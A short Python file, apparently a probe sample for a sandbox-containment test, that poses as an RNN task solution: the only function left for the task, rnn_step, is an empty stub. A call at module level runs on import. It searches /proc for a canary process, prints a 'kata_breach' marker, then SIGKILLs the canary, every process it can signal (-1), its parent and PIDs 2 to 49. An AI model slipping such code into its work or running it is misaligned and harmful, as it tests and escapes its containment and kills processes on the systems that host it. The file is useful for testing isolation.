"""Kills whatever it can see, where that can only be its own small world.

attack: processes
earns: 0
told: nothing_returned, died_signal
"""

import glob
import os
import signal


def attempt():
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                canary = b"kata_canary_process" in file.read()
            if canary:
                print("kata" + "_breach: sees the canary")
                os.kill(int(path.split("/")[2]), signal.SIGKILL)
        except OSError:
            continue
    # Only ever inside of a namespace of its own, where the first processes are few.
    if os.getpid() < 100:
        for target in (-1, os.getppid(), *range(2, 50)):
            if target not in (0, os.getpid()):
                try:
                    os.kill(target, signal.SIGKILL)
                except OSError:
                    continue


attempt()


def rnn_step(x_t, h, kernel, recurrent_kernel, bias):
    return None
